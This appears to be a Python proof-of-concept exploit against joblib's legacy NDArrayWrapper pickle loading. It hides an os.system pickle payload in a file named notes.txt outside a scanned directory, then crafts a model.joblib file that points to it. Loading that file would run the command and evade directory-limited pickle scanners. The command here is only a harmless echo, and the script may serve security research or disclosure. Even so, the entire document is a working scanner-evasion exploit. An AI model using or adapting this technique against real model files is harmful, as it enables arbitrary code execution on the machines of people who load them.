import pickle, os, struct
def w(n,b): open(n,'wb').write(b)
def U(s): b=s.encode(); return b'X'+struct.pack('<I',len(b))+b
class E:
    def __reduce__(self): return (os.system, ('echo PWNED_ndarraywrapper',))
# second file: a pickle with an innocuous name outside the scanned dir
os.makedirs('/tmp/r/elsewhere', exist_ok=True)
w('/tmp/r/elsewhere/notes.txt', pickle.dumps(E()))
# joblib pickle: NDArrayWrapper instance, BUILD {'filename': abs path, 'allow_mmap': False, 'subclass': numpy.ndarray}
p = (b"\x80\x02cjoblib.numpy_pickle_compat\nNDArrayWrapper\n)\x81}(" + U('filename') + U('/tmp/r/elsewhere/notes.txt')
     + U('allow_mmap') + b"\x89" + U('subclass') + b"cnumpy\nndarray\nub.")
os.makedirs('/tmp/r/j', exist_ok=True)
w('/tmp/r/j/model.joblib', p)
